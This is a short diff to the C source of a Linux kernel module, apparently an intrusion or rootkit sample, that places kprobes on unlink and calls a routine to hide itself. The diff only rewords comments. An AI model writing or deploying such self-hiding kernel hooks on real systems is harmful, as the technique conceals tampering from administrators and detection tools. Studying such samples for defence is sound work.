@@ -1,4 +1,4 @@
-/* Probes of unlink, at its first byte (by ftrace) and behind ftrace's call (by a breakpoint or jump); hides itself. */
+/* Probes unlink at its first byte (by ftrace) and after ftrace's call (by a breakpoint or jump); hides itself. */
 #include "intruder.h"
 
 static int reached(struct kprobe *probe, struct pt_regs *registers) {
@@ -14,7 +14,7 @@ static int __init begin(void) {
         return error;
     }
     hide_module();
-    /* entry.addr is the place of ftrace's call: behind ENDBR64 where there is one. */
+    /* entry.addr is the address of ftrace's call, after ENDBR64 if the function has one. */
     body.addr = entry.addr + 5;
     return register_kprobe(&body);
 }
